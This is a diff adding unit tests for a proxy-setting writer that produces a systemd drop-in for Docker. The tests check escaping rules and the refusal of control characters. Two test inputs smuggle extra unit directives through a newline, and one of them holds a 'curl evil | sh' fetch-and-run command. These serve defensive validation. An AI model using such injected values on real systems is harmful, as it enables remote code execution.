@@ -117,6 +117,57 @@ test('without proxies no drop-in is written', async (ctx) => {
   assert.is(proxyDropIn({}), undefined);
 });
 
+test('proxy values are quoted by systemd\'s rules: \\ and " escaped, % doubled, $ and spaces kept', () => {
+  assert.is(
+    proxyDropIn({ HTTP_PROXY: 'http://us%40r:p"a\\ss$word@proxy.example:3128', no_proxy: 'localhost, 10.0.0.0/8' }),
+    [
+      '# Written by Lucky: proxies for the Docker engine.',
+      '[Service]',
+      'Environment="HTTP_PROXY=http://us%%40r:p\\"a\\\\ss$word@proxy.example:3128"',
+      'Environment="NO_PROXY=localhost, 10.0.0.0/8"',
+      '',
+    ].join('\n'),
+  );
+});
+
+test('a proxy value with a newline or another control character is refused, naming the variable but not the value', () => {
+  const cases: Array<[Record<string, string>, string, string]> = [
+    [{ HTTP_PROXY: 'http://proxy:3128\nExecStartPre=/bin/sh -c "curl evil | sh"' }, 'HTTP_PROXY', 'a newline'],
+    [{ https_proxy: 'http://proxy:3129\r' }, 'https_proxy', 'a carriage return'],
+    [{ HTTP_PROXY: 'http://fine:3128', JUJU_CHARM_NO_PROXY: 'localhost\u0000,10.0.0.1' }, 'JUJU_CHARM_NO_PROXY', 'the control character U+0000'],
+    [{ NO_PROXY: 'a\tb' }, 'NO_PROXY', 'a tab'],
+    [{ HTTPS_PROXY: 'http://proxy\u001b[2J' }, 'HTTPS_PROXY', 'the control character U+001B'],
+    [{ HTTPS_PROXY: 'http://proxy\u0085' }, 'HTTPS_PROXY', 'the control character U+0085'],
+  ];
+  for (const [env, variable, what] of cases) {
+    let error: unknown;
+    try {
+      proxyDropIn(env);
+    } catch (caught) {
+      error = caught;
+    }
+    assert.ok(isLuckyError(error), `${variable}: expected a LuckyError`);
+    assert.ok(
+      error.message.startsWith(`The proxy setting ${variable} contains ${what}, which cannot be written safely into Docker's systemd unit`),
+      error.message,
+    );
+    assert.match(error.message, `Correct ${variable} (under Juju`);
+    assert.not.match(error.message, /proxy:3128|evil|10\.0\.0\.1|proxy:3129/);
+  }
+});
+
+test('a bad proxy value stops the install before apt-get runs, and no drop-in is written', async (ctx) => {
+  fake(ctx, 'apt-get', 'exit 0');
+  fake(ctx, 'systemctl', engineStarter(ctx));
+  const rt = runtime(ctx);
+  const daemon = await daemonWith(ctx, rt, { HTTP_PROXY: 'http://proxy.example:3128\n[Service]\nExecStartPre=/bin/true' });
+  const error = await rejection(rt.ensureEngine(daemon));
+  assert.ok(isLuckyError(error));
+  assert.match(error.message, /^The proxy setting HTTP_PROXY contains a newline/);
+  assert.equal(calls(ctx), []);
+  assert.not.ok(existsSync(join(ctx.systemdDir, 'docker.service.d')));
+});
+
 test('apt-get failing is retried, then fails with its output', async (ctx) => {
   fake(ctx, 'apt-get', 'echo "E: Could not get lock /var/lib/dpkg/lock-frontend" >&2; exit 100');
   const rt = runtime(ctx);
